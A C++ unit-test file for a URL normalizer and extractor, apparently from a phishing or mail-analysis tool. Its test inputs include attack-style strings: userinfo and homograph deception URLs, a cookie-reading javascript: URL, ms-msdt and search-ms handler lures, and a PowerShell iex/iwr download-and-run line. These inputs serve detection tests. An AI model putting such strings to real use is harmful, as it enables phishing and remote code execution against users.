#include "parse/url/url.h"

#include <gtest/gtest.h>

#include <string>
#include <vector>

namespace vigie::parse {
namespace {

using Strings = std::vector<std::string_view>;

TEST(UrlTest, LowercasesSchemeAndHostAddsRootPath) {
  const Url u = normalize_url("  HTTPS://WWW.Example.COM  ", UrlSource::kHref);
  EXPECT_TRUE(u.valid);
  EXPECT_EQ(u.raw(), "HTTPS://WWW.Example.COM");
  EXPECT_EQ(u.scheme(), "https");
  EXPECT_EQ(u.host_ascii(), "www.example.com");
  EXPECT_EQ(u.host_unicode(), "www.example.com");
  EXPECT_EQ(u.registrable_domain(), "example.com");
  EXPECT_EQ(u.normalized(), "https://www.example.com/");
  EXPECT_EQ(u.port, -1);
  EXPECT_FALSE(u.host_is_ip);
  EXPECT_EQ(u.source, UrlSource::kHref);
}

TEST(UrlTest, FieldsShareOneBufferAndSurviveCopiesAndMoves) {
  Url u;
  u.assign_text({"raw", "http://a.example.com/", "http", "a.example.com", "a.example.com", "example.com", ""});
  EXPECT_EQ(u.raw(), "raw");
  EXPECT_EQ(u.normalized(), "http://a.example.com/");
  EXPECT_EQ(u.scheme(), "http");
  EXPECT_EQ(u.host_ascii(), "a.example.com");
  EXPECT_EQ(u.host_unicode(), "a.example.com");
  EXPECT_EQ(u.registrable_domain(), "example.com");
  EXPECT_EQ(u.userinfo(), "");
  // The Unicode host and the registrable domain end the ASCII host: they are stored once.
  EXPECT_EQ(u.host_unicode().data(), u.host_ascii().data());
  EXPECT_EQ(u.registrable_domain().data(), u.host_ascii().data() + 2);
  const Url copy = u;
  Url moved = std::move(u);
  for (const Url* x : {&copy, static_cast<const Url*>(&moved)}) {
    EXPECT_EQ(x->normalized(), "http://a.example.com/");
    EXPECT_EQ(x->registrable_domain(), "example.com");
  }
  // Short enough to live inside the string object (moving it copies the bytes): still right.
  Url small;
  small.assign_text({"a", "b", "", "c", "c", "", "d"});
  Url small_moved = std::move(small);
  EXPECT_EQ(small_moved.raw(), "a");
  EXPECT_EQ(small_moved.host_unicode(), "c");
  EXPECT_EQ(small_moved.userinfo(), "d");
  // Assigning again replaces every field.
  small_moved.assign_text({"", "", "", "", "", "", ""});
  EXPECT_EQ(small_moved.raw(), "");
  EXPECT_EQ(small_moved.host_ascii(), "");
}

TEST(UrlTest, ARepeatedUrlKeepsItsOwnSource) {
  const Url first = normalize_url("https://tracker.example/c?id=1", UrlSource::kSrc);
  const Url again = normalize_url("https://tracker.example/c?id=1", UrlSource::kHref);
  EXPECT_EQ(first.source, UrlSource::kSrc);
  EXPECT_EQ(again.source, UrlSource::kHref);
  EXPECT_EQ(again.normalized(), first.normalized());
  EXPECT_EQ(again.registrable_domain(), "tracker.example");
  EXPECT_TRUE(again.anchor_text.empty());
}

TEST(UrlTest, BareWwwIsHttp) {
  const Url u = normalize_url("www.Example.org/a?b=c", UrlSource::kText);
  EXPECT_TRUE(u.valid);
  EXPECT_EQ(u.scheme(), "http");
  EXPECT_EQ(u.host_ascii(), "www.example.org");
  EXPECT_EQ(u.normalized(), "http://www.example.org/a?b=c");
}

TEST(UrlTest, UserinfoDeceptionKeepsUserinfoAndRealHost) {
  const Url u = normalize_url("http://paypal.com@evil.example/login", UrlSource::kHref);
  EXPECT_TRUE(u.valid);
  EXPECT_EQ(u.userinfo(), "paypal.com");
  EXPECT_EQ(u.host_ascii(), "evil.example");
  EXPECT_EQ(u.normalized(), "http://evil.example/login");
  // The last '@' ends the userinfo, as in WHATWG URL.
  const Url v = normalize_url("http://a@b@c.example/", UrlSource::kHref);
  EXPECT_EQ(v.userinfo(), "a@b");
  EXPECT_EQ(v.host_ascii(), "c.example");
  const Url w = normalize_url("https://user:pass@www.bank.example:8443/x", UrlSource::kHref);
  EXPECT_EQ(w.userinfo(), "user:pass");
  EXPECT_EQ(w.host_ascii(), "www.bank.example");
  EXPECT_EQ(w.port, 8443);
}

TEST(UrlTest, IdnToPunycodeAndBack) {
  const Url u = normalize_url("http://пример.com/", UrlSource::kHref);
  EXPECT_TRUE(u.valid);
  EXPECT_EQ(u.host_ascii(), "xn--e1afmkfd.com");
  EXPECT_EQ(u.host_unicode(), "пример.com");
  EXPECT_EQ(u.normalized(), "http://xn--e1afmkfd.com/");

  const Url p = normalize_url("http://xn--80ak6aa92e.com/", UrlSource::kHref);
  EXPECT_TRUE(p.valid);
  EXPECT_EQ(p.host_ascii(), "xn--80ak6aa92e.com");
  EXPECT_EQ(p.host_unicode(), "аррӏе.com");  // Cyrillic look-alike of apple.com
  EXPECT_EQ(p.registrable_domain(), "xn--80ak6aa92e.com");

  const Url back = normalize_url("http://аррӏе.com/", UrlSource::kHref);
  EXPECT_EQ(back.host_ascii(), "xn--80ak6aa92e.com");
}

TEST(UrlTest, Uts46MappingNonTransitionalAndFullwidthDots) {
  // UTS #46 maps case and fullwidth forms; non-transitional keeps ß (IDNA2008), as browsers do.
  EXPECT_EQ(normalize_url("http://FAß.de/", UrlSource::kHref).host_ascii(), "xn--fa-hia.de");
  EXPECT_EQ(normalize_url("http://ｅｘａｍｐｌｅ。com/", UrlSource::kHref).host_ascii(), "example.com");
  EXPECT_EQ(normalize_url("http://Bücher.example/", UrlSource::kHref).host_ascii(),
            "xn--bcher-kva.example");
}

TEST(UrlTest, InvalidIdnaIsInvalidNotCrash) {
  const Url bad_puny = normalize_url("http://xn--zz.com/", UrlSource::kHref);
  EXPECT_FALSE(bad_puny.valid);
  EXPECT_TRUE(bad_puny.registrable_domain().empty());
  // Bidi rule violation (RTL label mixing an LTR letter).
  EXPECT_FALSE(normalize_url("http://\xD7\x90" "a.com/", UrlSource::kHref).valid);
  // Invalid UTF-8 in the host.
  EXPECT_FALSE(normalize_url("http://ex\xff" "ample.com/", UrlSource::kHref).valid);
  // WHATWG skips any number of slashes after a special scheme: the host here is "path".
  EXPECT_EQ(normalize_url("http:///path", UrlSource::kHref).host_ascii(), "path");
  EXPECT_FALSE(normalize_url("http://exa mple.com/", UrlSource::kHref).valid);
  EXPECT_FALSE(normalize_url("http://example.com:99999/", UrlSource::kHref).valid);
  EXPECT_FALSE(normalize_url("http://example.com:8o/", UrlSource::kHref).valid);
  EXPECT_FALSE(normalize_url("http://[::1/", UrlSource::kHref).valid);
  EXPECT_FALSE(normalize_url("", UrlSource::kHref).host_is_ip);
}

TEST(UrlTest, PercentEncodedHostIsDecodedFirst) {
  const Url u = normalize_url("http://%65%76%69%6C.example/", UrlSource::kHref);
  EXPECT_TRUE(u.valid);
  EXPECT_EQ(u.host_ascii(), "evil.example");
  const Url idn = normalize_url("http://%D0%BF%D1%80%D0%B8%D0%BC%D0%B5%D1%80.com/", UrlSource::kHref);
  EXPECT_EQ(idn.host_ascii(), "xn--e1afmkfd.com");
  EXPECT_EQ(idn.host_unicode(), "пример.com");
  // A percent-encoded forbidden code point stays forbidden.
  EXPECT_FALSE(normalize_url("http://a%2Fb.example/", UrlSource::kHref).valid);
}

TEST(UrlTest, Ipv4Forms) {
  struct Case {
    const char* in;
    const char* host;
  };
  for (const Case& c : {Case{"http://192.168.1.1/", "192.168.1.1"},
                        Case{"http://3232235777/", "192.168.1.1"},
                        Case{"http://0xC0A80101/", "192.168.1.1"},
                        Case{"http://0300.0250.1.1/", "192.168.1.1"},
                        Case{"http://192.168.257/", "192.168.1.1"},
                        Case{"http://0x7f.1/", "127.0.0.1"},
                        Case{"http://127.1/", "127.0.0.1"},
                        Case{"http://0x7F.0.0.1./", "127.0.0.1"},
                        Case{"http://%31%32%37.0.0.1/", "127.0.0.1"},
                        Case{"http://１２７.0.0.1/", "127.0.0.1"}}) {
    const Url u = normalize_url(c.in, UrlSource::kHref);
    EXPECT_TRUE(u.valid) << c.in;
    EXPECT_TRUE(u.host_is_ip) << c.in;
    EXPECT_EQ(u.host_ascii(), c.host) << c.in;
    EXPECT_EQ(u.host_unicode(), c.host) << c.in;
    EXPECT_TRUE(u.registrable_domain().empty()) << c.in;
  }
  EXPECT_EQ(normalize_url("http://0x7f.1:8080/a", UrlSource::kHref).normalized(),
            "http://127.0.0.1:8080/a");
  // Numbers that do not fit are failures, not hostnames.
  EXPECT_FALSE(normalize_url("http://256.1.1.1/", UrlSource::kHref).valid);
  EXPECT_FALSE(normalize_url("http://1.2.3.4.5/", UrlSource::kHref).valid);
  EXPECT_FALSE(normalize_url("http://4294967296/", UrlSource::kHref).valid);
  EXPECT_FALSE(normalize_url("http://09.1.1.1/", UrlSource::kHref).valid);
  // Not ending in a number: a domain.
  const Url d = normalize_url("http://1.2.3.com/", UrlSource::kHref);
  EXPECT_TRUE(d.valid);
  EXPECT_FALSE(d.host_is_ip);
}

TEST(UrlTest, Ipv6Literal) {
  const Url u = normalize_url("http://[2001:DB8:0:0:0:0:0:1]:8080/x", UrlSource::kHref);
  EXPECT_TRUE(u.valid);
  EXPECT_TRUE(u.host_is_ip);
  EXPECT_EQ(u.host_ascii(), "[2001:db8::1]");
  EXPECT_EQ(u.port, 8080);
  EXPECT_EQ(u.normalized(), "http://[2001:db8::1]:8080/x");
  EXPECT_TRUE(u.registrable_domain().empty());
  EXPECT_EQ(normalize_url("http://[::ffff:192.168.1.1]/", UrlSource::kHref).host_ascii(),
            "[::ffff:c0a8:101]");
  EXPECT_EQ(normalize_url("http://[::1]/", UrlSource::kHref).host_ascii(), "[::1]");
  EXPECT_EQ(normalize_url("http://[1:0:0:2:0:0:0:3]/", UrlSource::kHref).host_ascii(),
            "[1:0:0:2::3]");
  EXPECT_FALSE(normalize_url("http://[1:2:3]/", UrlSource::kHref).valid);
  EXPECT_FALSE(normalize_url("http://[fe80::1%25eth0]/", UrlSource::kHref).valid);
}

TEST(UrlTest, PortsDefaultPortOmittedFromNormalized) {
  const Url u = normalize_url("http://example.com:80/", UrlSource::kHref);
  EXPECT_EQ(u.port, 80);
  EXPECT_EQ(u.normalized(), "http://example.com/");
  const Url v = normalize_url("https://example.com:0443/", UrlSource::kHref);
  EXPECT_EQ(v.port, 443);
  EXPECT_EQ(v.normalized(), "https://example.com/");
  const Url w = normalize_url("http://example.com:/", UrlSource::kHref);
  EXPECT_TRUE(w.valid);
  EXPECT_EQ(w.port, -1);
}

TEST(UrlTest, PathQueryDecodeOnlyUnreserved) {
  const Url u = normalize_url("http://example.com/%7Euser/%41%2f%2Fb%20c?q=%61%26%3d#%66%2e", UrlSource::kHref);
  EXPECT_EQ(u.normalized(), "http://example.com/~user/A%2F%2Fb%20c?q=a%26%3D#f.");
  const Url dots = normalize_url("http://example.com/a/./b/../c/%2e%2E/d", UrlSource::kHref);
  EXPECT_EQ(dots.normalized(), "http://example.com/a/d");
  const Url q = normalize_url("http://example.com?", UrlSource::kHref);
  EXPECT_EQ(q.normalized(), "http://example.com/?");
}

TEST(UrlTest, BackslashesAreSlashesInSpecialUrls) {
  const Url u = normalize_url("http:\\\\evil.example\\path\\x", UrlSource::kHref);
  EXPECT_TRUE(u.valid);
  EXPECT_EQ(u.host_ascii(), "evil.example");
  EXPECT_EQ(u.normalized(), "http://evil.example/path/x");
  // A backslash ends the authority: the "@" after it is path, not userinfo.
  const Url v = normalize_url("https://good.example\\@evil.example/", UrlSource::kHref);
  EXPECT_EQ(v.host_ascii(), "good.example");
  EXPECT_TRUE(v.userinfo().empty());
  const Url few = normalize_url("https:evil.example/x", UrlSource::kHref);
  EXPECT_EQ(few.host_ascii(), "evil.example");
  const Url many = normalize_url("https:////evil.example/x", UrlSource::kHref);
  EXPECT_EQ(many.host_ascii(), "evil.example");
}

TEST(UrlTest, TabsAndNewlinesInsideAreRemoved) {
  const Url u = normalize_url("ht\ttp://exa\nmple.com/p\r\nath", UrlSource::kHref);
  EXPECT_EQ(u.normalized(), "http://example.com/path");
}

TEST(UrlTest, OpaqueSchemesHaveNoHost) {
  const Url d = normalize_url("DATA:text/html;base64,PHNjcmlwdD4=", UrlSource::kHref);
  EXPECT_TRUE(d.valid);
  EXPECT_EQ(d.scheme(), "data");
  EXPECT_TRUE(d.host_ascii().empty());
  EXPECT_TRUE(d.registrable_domain().empty());
  EXPECT_EQ(d.normalized(), "data:text/html;base64,PHNjcmlwdD4=");
  const Url j = normalize_url("JavaScript:alert(document.cookie)", UrlSource::kHref);
  EXPECT_EQ(j.scheme(), "javascript");
  EXPECT_TRUE(j.host_ascii().empty());
  EXPECT_EQ(j.normalized(), "javascript:alert(document.cookie)");
  const Url m = normalize_url("mailto:Someone@Example.com?subject=Hi", UrlSource::kHref);
  EXPECT_EQ(m.scheme(), "mailto");
  EXPECT_TRUE(m.host_ascii().empty());
  EXPECT_EQ(m.normalized(), "mailto:Someone@Example.com?subject=Hi");
}

TEST(UrlTest, FileAndRelativeAndSchemeRelative) {
  const Url f = normalize_url("file:///etc/passwd", UrlSource::kHref);
  EXPECT_TRUE(f.valid);
  EXPECT_TRUE(f.host_ascii().empty());
  EXPECT_EQ(f.normalized(), "file:///etc/passwd");
  const Url smb = normalize_url("file://Server/share", UrlSource::kHref);
  EXPECT_EQ(smb.host_ascii(), "server");
  EXPECT_EQ(normalize_url("file://C:/x", UrlSource::kHref).normalized(), "file:///C:/x");
  const Url rel = normalize_url("/unsubscribe?id=1", UrlSource::kHref);
  EXPECT_TRUE(rel.scheme().empty());
  EXPECT_TRUE(rel.host_ascii().empty());
  EXPECT_EQ(rel.normalized(), "/unsubscribe?id=1");
  const Url sr = normalize_url("//CDN.Example.net/a.png", UrlSource::kSrc);
  EXPECT_TRUE(sr.scheme().empty());
  EXPECT_EQ(sr.host_ascii(), "cdn.example.net");
  EXPECT_EQ(sr.registrable_domain(), "example.net");
  EXPECT_EQ(sr.normalized(), "//cdn.example.net/a.png");
}

TEST(UrlTest, RegistrableDomain) {
  EXPECT_EQ(registrable_domain("a.b.example.co.uk"), "example.co.uk");
  // libpsl's built-in list includes the PRIVATE section: github.io is a public suffix.
  EXPECT_EQ(registrable_domain("foo.github.io"), "foo.github.io");
  EXPECT_EQ(registrable_domain("x.foo.github.io"), "foo.github.io");
  EXPECT_EQ(registrable_domain("github.io"), "");
  EXPECT_EQ(registrable_domain("co.uk"), "");
  EXPECT_EQ(registrable_domain("example.com."), "example.com");
  EXPECT_EQ(registrable_domain("192.168.1.1"), "");
  EXPECT_EQ(registrable_domain("[::1]"), "");
  EXPECT_EQ(registrable_domain(""), "");
  EXPECT_EQ(normalize_url("https://a.b.example.co.uk/", UrlSource::kHref).registrable_domain(),
            "example.co.uk");
}

TEST(UrlTest, NeverCrashesOnJunk) {
  for (const char* junk : {"", ":", "://", "http:", "http://", "http://@", "http://:80", "[", "]",
                           "http://[", "http://[]", "http://%", "http://%zz", "http://a:b:c",
                           "\x01\x02", "www.", "%%%", "http://\xc3", "xn--", "http://xn--/"}) {
    const Url u = normalize_url(junk, UrlSource::kText);
    (void)u;
  }
  EXPECT_FALSE(normalize_url("http://", UrlSource::kHref).valid);
  EXPECT_FALSE(normalize_url("http://@/", UrlSource::kHref).valid);
}

TEST(UrlTest, FindsUncPathsInText) {
  const std::string text =
      "Le dossier est sur \\\\fs01.interne\\partage\\Budget 2025, ou \\\\198.51.100.7@SSL\\DavWWWRoot\\a.lnk.\n"
      "Pas ceux-ci : printf(\"\\\\n\"), C:\\\\temp\\\\x, \\\\\\\\triple\\x, \\\\host\\ seul.\n"
      "Ni celui-ci deux fois : file:///\\\\fs02\\docs\\a.txt";
  const std::vector<std::string_view> urls = find_urls_in_text(text, 100);
  EXPECT_EQ(urls, (std::vector<std::string_view>{"\\\\fs01.interne\\partage\\Budget", "\\\\198.51.100.7@SSL\\DavWWWRoot\\a.lnk",
                                                 "file:///\\\\fs02\\docs\\a.txt"}));
  EXPECT_EQ(find_urls_in_text("\\\\a\\b \\\\c\\d \\\\e\\f", 2).size(), 2u);
}

TEST(UrlTest, FindsProtocolHandlersInText) {
  const std::string text =
      "Lancez ms-msdt:/id PCWDiagnostic puis search-ms:query=x&crumb=location:\\\\h\\s, "
      "ouvrez ms-word:ofe|u|https://a.example/b.docx ou mk:@MSITStore:c:\\a.chm::/x.htm.\n"
      "Pas ceux-ci : items-list: a, Teams-ms-x:, https://a.example/ms-msdt:x, ms-: x, ms-msdt: seul.";
  EXPECT_EQ(find_urls_in_text(text, 100),
            (std::vector<std::string_view>{"ms-msdt:/id", "search-ms:query=x&crumb=location:\\\\h\\s", "\\\\h\\s",
                                           "ms-word:ofe|u|https://a.example/b.docx", "https://a.example/b.docx",
                                           "mk:@MSITStore:c:\\a.chm::/x.htm", "https://a.example/ms-msdt:x"}));
  // The share a search opens and the document Word fetches are links of their own too.
}

TEST(UrlTest, FindsSchemeAndWwwUrlsInText) {
  EXPECT_EQ(find_urls_in_text("See https://example.com/a?b=1 and www.test.org/x, or "
                              "ftp://files.example/f.txt. Also FILE:///c/x!",
                              100),
            (Strings{"https://example.com/a?b=1", "www.test.org/x", "ftp://files.example/f.txt",
                     "FILE:///c/x"}));
}

TEST(UrlTest, TrimsTrailingPunctuationLikeMailClients) {
  EXPECT_EQ(find_urls_in_text("(see http://example.com/foo_(bar)) and http://x.example/a).", 10),
            (Strings{"http://example.com/foo_(bar)", "http://x.example/a"}));
  EXPECT_EQ(find_urls_in_text("go to http://a.example/?q=1'; now: http://b.example/:!?", 10),
            (Strings{"http://a.example/?q=1", "http://b.example/"}));
  EXPECT_EQ(find_urls_in_text("[http://c.example/x] <http://d.example/y>\"http://e.example/\"", 10),
            (Strings{"http://c.example/x", "http://d.example/y", "http://e.example/"}));
  EXPECT_EQ(find_urls_in_text("http://g.example/[a]", 10), (Strings{"http://g.example/[a]"}));
}

TEST(UrlTest, InCodeQuotesAndStatementsEndAUrl) {
  const std::string code = "$u='https://a.example/r.ps1';iex(iwr \"http://b.example/x\"),app.launchURL(`http://c.example/`)";
  EXPECT_EQ(find_urls_in_code(code, 10),
            (Strings{"https://a.example/r.ps1", "http://b.example/x", "http://c.example/"}));
  // Views of the code itself.
  EXPECT_EQ(find_urls_in_code(code, 10)[0].data(), code.data() + 4);
  EXPECT_EQ(find_urls_in_code(code, 1).size(), 1u);
}

TEST(UrlTest, FindsIdnUrlsAndStopsAtUnicodeSpaces) {
  EXPECT_EQ(find_urls_in_text("Besuchen Sie https://exämple.com/x\xC2\xA0jetzt", 10),
            (Strings{"https://exämple.com/x"}));
  EXPECT_EQ(find_urls_in_text("请访问https://例子.中国/路径。 谢谢", 10),
            (Strings{"https://例子.中国/路径"}));
  EXPECT_EQ(find_urls_in_text("http://a.example\xE3\x80\x80http://b.example", 10),
            (Strings{"http://a.example", "http://b.example"}));
}

TEST(UrlTest, IgnoresNonUrls) {
  EXPECT_TRUE(find_urls_in_text("time: 10:30, ratio 1:2, http:// and www. alone", 10).empty());
  EXPECT_TRUE(find_urls_in_text("mail me at joe@www.example.com or see foo.www.bar.com", 10).empty());
  EXPECT_TRUE(find_urls_in_text("data: 3 rows, metadata:text/plain", 10).empty());
  EXPECT_TRUE(find_urls_in_text("javascript: is a language", 10).empty());
  EXPECT_TRUE(find_urls_in_text("", 10).empty());
  EXPECT_TRUE(find_urls_in_text("mailto:joe@example.com", 10).empty());
}

TEST(UrlTest, FindsDataAndJavascriptAndGluedSchemes) {
  EXPECT_EQ(find_urls_in_text("x data:text/html;base64,PGI+ javascript:alert(1) Visit:http://a.example", 10),
            (Strings{"data:text/html;base64,PGI+", "javascript:alert(1)", "http://a.example"}));
  EXPECT_EQ(find_urls_in_text("WWW.Example.com.", 10), (Strings{"WWW.Example.com"}));
}

TEST(UrlTest, FindsUrlsAtEveryOffsetAmongProseColonsAndDots) {
  // The search skips ahead 16 bytes at a time past colons and dots that cannot start a URL: put
  // each kind of URL at every offset after prose full of them (and a colon right before).
  const std::string prose = "Re: a. Note: b.c: d.e. 10:30 x.y:z. ";
  for (std::size_t pad = 0; pad <= 40; ++pad) {
    const std::string before = prose.substr(0, pad % prose.size()) + std::string(pad / 8, ' ');
    for (const std::string url : {"http://a.example/x", "www.b.example", "data:text/plain,x", "javascript:go()"}) {
      const std::string text = before + " " + url + " and: more.";
      EXPECT_EQ(find_urls_in_text(text, 10), (Strings{url})) << pad << " " << text;
      EXPECT_EQ(find_urls_in_text(url, 10), (Strings{url}));
    }
  }
}

TEST(UrlTest, RespectsMaxUrls) {
  std::string text;
  for (int i = 0; i < 50; ++i) text += "http://h" + std::to_string(i) + ".example/ ";
  EXPECT_EQ(find_urls_in_text(text, 7).size(), 7u);
  EXPECT_EQ(find_urls_in_text(text, 1000).size(), 50u);
  EXPECT_EQ(find_urls_in_text(text, 0).size(), 0u);
}

// ---- Fast path equivalence -------------------------------------------------------------------

void expect_same_url(const Url& fast, const Url& general, const std::string& input) {
  SCOPED_TRACE("input: " + input);
  EXPECT_EQ(fast.raw(), general.raw());
  EXPECT_EQ(fast.normalized(), general.normalized());
  EXPECT_EQ(fast.scheme(), general.scheme());
  EXPECT_EQ(fast.host_ascii(), general.host_ascii());
  EXPECT_EQ(fast.host_unicode(), general.host_unicode());
  EXPECT_EQ(fast.registrable_domain(), general.registrable_domain());
  EXPECT_EQ(fast.userinfo(), general.userinfo());
  EXPECT_EQ(fast.port, general.port);
  EXPECT_EQ(fast.host_is_ip, general.host_is_ip);
  EXPECT_EQ(fast.valid, general.valid);
  EXPECT_EQ(fast.source, general.source);
  EXPECT_EQ(fast.part, general.part);
  EXPECT_EQ(fast.anchor_text, general.anchor_text);
}

// Inputs at and around every boundary of the fast path's shape (scheme, slashes, host bytes,
// "xn--", IPv4 number forms, port, userinfo, brackets, escapes, dot segments, backslashes), plus
// the shapes it must leave to the general path.
const std::vector<std::string>& varied_urls() {
  static const std::vector<std::string> urls = [] {
    std::vector<std::string> v = {
        "http://example.com", "https://example.com/", "HTTP://EXAMPLE.COM/A/B?C=D#E",
        "HtTpS://Www.Example.Co.Uk:443/", "http://example.com:80/x", "http://example.com:8080/x",
        "https://example.com:80/", "https://example.com:443", "http://example.com:/x",
        "http://example.com:0/", "http://example.com:65535/", "http://example.com:65536/",
        "http://example.com:99999999999999999999/", "http://example.com:8a/", "http://example.com::80/",
        "http://example.com?q", "http://example.com#f", "http://example.com?#", "http://example.com/?a#b?c",
        "http://example.com/p#frag/../x", "http://example.com/p?q=/../x", "http:example.com/x",
        "http:/example.com/x", "http:///example.com/x", "http:\\\\example.com\\x\\y",
        "http:/\\/example.com/x", "https://example.com\\path", "http://example.com/a\\b",
        "http://example.com/a/./b", "http://example.com/a/../b", "http://example.com/a/.",
        "http://example.com/a/..", "http://example.com/.hidden", "http://example.com/a.b/c.d",
        "http://example.com/a/%2e/b", "http://example.com/a/%2E%2E/b", "http://example.com/a%2fb",
        "http://example.com/%7euser/%41%42", "http://example.com/%7Euser?x=%7e%2F%zz%4", "http://example.com/%",
        "http://example.com/a%", "http://example.com/a%4", "http://example.com/a%41", "http://example.com/%%41",
        "http://example.com/sp ace", "http://example.com/caf\xC3\xA9?q=\xC3\xA9#\xC3\xA9",
        "http://ex%41mple.com/", "http://ex%2Eample.com/", "http://%65xample.com/", "http://ex ample.com/",
        "http://user@example.com/", "http://user:pass@example.com:8080/", "http://paypal.com@evil.example/",
        "http://a@b@c.example/", "http://@example.com/", "http://example.com@/",
        "http://xn--nxasmq6b.com/", "http://XN--NXASMQ6B.COM/", "http://axn--b.com/", "http://a.xn--b.com/",
        "http://xn--.com/", "http://xn--a.com/", "http://xn--zz-zzz.example/", "http://bücher.example/",
        "http://BÜCHER.example/", "http://faß.de/", "http://ｅｘａｍｐｌｅ．ｃｏｍ/", "http://例え.テスト/",
        "http://пример.рф/путь", "http://\xE2\x80\x8D.example/", "http://a\xC2\xAD" "b.example/",
        "http://\xFF\xFE.example/", "http://127.0.0.1/", "http://127.1/", "http://0x7f.1/",
        "http://0177.0.0.1/", "http://2130706433/", "http://0x7f000001/", "http://256.256.256.256/",
        "http://1.2.3.4.5/", "http://1.2.3.4./", "http://1.2.3/", "http://example.123/", "http://example.0x1f/",
        "http://example.0X1F/", "http://123.example/", "http://0x/", "http://09/", "http://4294967296/",
        "http://[::1]/", "http://[::1]:8080/x", "http://[2001:DB8::1]/", "http://[::ffff:192.168.0.1]/",
        "http://[1:2:3:4:5:6:7:8]/", "http://[::1/", "http://[zz]/", "http://[]/", "http://example.com./",
        "http://example.com../", "http://.example.com/", "http://a..b.example/", "http://under_score.example/",
        "http://-dash-.example/", "http://a-.example/", "http://com/", "http://co.uk/", "http://localhost/",
        "http://a/", "http://A/", "http://1/", "http://./", "http:///", "http://", "http:", "https:",
        "http://?q", "http://#f", "http://:80/", "http:// example.com/", "http://exa<mple.com/",
        "http://exa|mple.com/", "http://exa^mple.com/", "http://exa%mple.com/",
        "http://blogspot.com/", "http://foo.blogspot.com/", "http://www.city.kawasaki.jp/",
        "http://foo.bar.github.io/x", "https://s3.amazonaws.com/bucket/key",
        "www.example.com", "WWW.Example.com/a?b", "www.example.com:8080/x", "www.", "www./x",
        "www.bücher.example", "www.example.com\\x", "www.127.0.0.1", "www.xn--nxasmq6b.com",
        "  \t http://example.com/a\tb\nc\r \x01", "\x1f\x20http://exa\nmple.com/", "http://example.com/\t",
        "\t\n\r", "", " ", "//example.com/x", "\\\\example.com\\x", "/relative/path", "relative?x#y",
        "#frag", "?q", "mailto:joe@example.com", "MAILTO:Joe@Example.COM?subject=hi%20there",
        "data:text/html;base64,PGI+", "data:,hello%20world", "javascript:alert(1)",
        "JavaScript:void(0)", "tel:+1-555-0100", "cid:part1@example", "ftp://ftp.example.com/pub/",
        "ftp://user:pw@ftp.example.com:2121/", "ftp://example.com:21/", "file:///C:/x", "file://C:/x",
        "file:///etc/passwd", "file:relative", "file://host/share", "ws://example.com:80/", "wss://example.com/",
        "foo://example.com/x", "foo://Example.COM:99/x", "git+ssh://git@example.com/repo",
        "1http://example.com/", "h:ttp", "httpx://example.com/", "htt://example.com/", "https1://x.example/",
        "http ://example.com/", "http\t://example.com/",
    };
    // A cross product of common pieces reaches shapes a hand-written list misses.
    const std::vector<std::string> schemes = {"http://", "https://", "HTTPS://", "http:\\\\", "www."};
    const std::vector<std::string> hosts = {"example.com", "Sub.Example.CO.UK", "xn--bcher-kva.example",
                                            "bücher.example", "10.0.0.1", "user@host.example",
                                            "[::1]", "host.example:8443", "h%41st.example"};
    const std::vector<std::string> tails = {"", "/", "/a/b.html?x=1&y=%7E#top", "/a/../b", "\\a\\b",
                                            "?q=%2f%41", "/%2e/x"};
    for (const auto& scheme : schemes) {
      for (const auto& host : hosts) {
        for (const auto& tail : tails) v.push_back(scheme + host + tail);
      }
    }
    return v;
  }();
  return urls;
}

TEST(UrlTest, FastPathGivesSameResultAsGeneralPath) {
  ASSERT_GE(varied_urls().size(), 200u);
  for (const std::string& input : varied_urls()) {
    for (const UrlSource source : {UrlSource::kText, UrlSource::kHref}) {
      expect_same_url(normalize_url(input, source), detail::normalize_url_general(input, source), input);
    }
  }
}

TEST(UrlTest, FastPathMatchesGeneralPathOnLongAndEscapedPaths) {
  std::string path;
  for (int i = 0; i < 2000; ++i) path += (i % 7 == 0) ? "%7e" : (i % 11 == 0 ? "%2F" : "ab/");
  for (const std::string& input :
       {"http://example.com/" + path, "https://example.com/?" + path + "#" + path,
        "data:image/png;base64," + std::string(300000, 'A')}) {
    expect_same_url(normalize_url(input, UrlSource::kHref),
                    detail::normalize_url_general(input, UrlSource::kHref), input.substr(0, 60));
  }
}

TEST(UrlTest, RegistrableDomainMemoStaysCorrectPastItsCapacity) {
  // More distinct hosts than the memo has slots, twice over: evictions and hits must both give the
  // suffix list's answer.
  for (int round = 0; round < 2; ++round) {
    for (int i = 0; i < 10000; ++i) {
      const std::string site = "site" + std::to_string(i) + ".co.uk";
      ASSERT_EQ(registrable_domain("www." + site), site);
      ASSERT_EQ(registrable_domain(site), site);
    }
  }
  const std::string long_host = std::string(300, 'a') + ".example.com";  // longer than memoised
  EXPECT_EQ(registrable_domain(long_host), "example.com");
  EXPECT_EQ(registrable_domain(long_host), "example.com");
  EXPECT_EQ(registrable_domain("co.uk"), "");
  EXPECT_EQ(registrable_domain("co.uk"), "");
}

}  // namespace
}  // namespace vigie::parse

namespace vigie::parse {
namespace {

TEST(RegistrableDomainTest, OneFunctionForUrlsSendersAndDmarc) {
  EXPECT_EQ(registrable_domain("mail.service.gouv.fr"), "service.gouv.fr");
  EXPECT_EQ(registrable_domain("News.Example.CO.UK."), "example.co.uk");
  // No registrable domain: empty by default (URL fields), the host itself for "same organisation"
  // tests and RFC 7489 §3.2.
  EXPECT_EQ(registrable_domain("gouv.fr"), "");
  EXPECT_EQ(registrable_domain("Gouv.FR.", WithoutRegistrable::kHost), "gouv.fr");
  EXPECT_EQ(registrable_domain("192.0.2.1"), "");
  EXPECT_EQ(registrable_domain("192.0.2.1", WithoutRegistrable::kHost), "192.0.2.1");
}

TEST(NormalizeHostTest, AsciiIdnaAndJunk) {
  EXPECT_EQ(normalize_host("Example.ORG."), "example.org");
  EXPECT_EQ(normalize_host("[mail.example.org]"), "mail.example.org");
  EXPECT_EQ(normalize_host("bücher.example"), "xn--bcher-kva.example");
  EXPECT_EQ(normalize_host("a..example"), "");
  EXPECT_EQ(normalize_host(""), "");
}

}  // namespace
}  // namespace vigie::parse
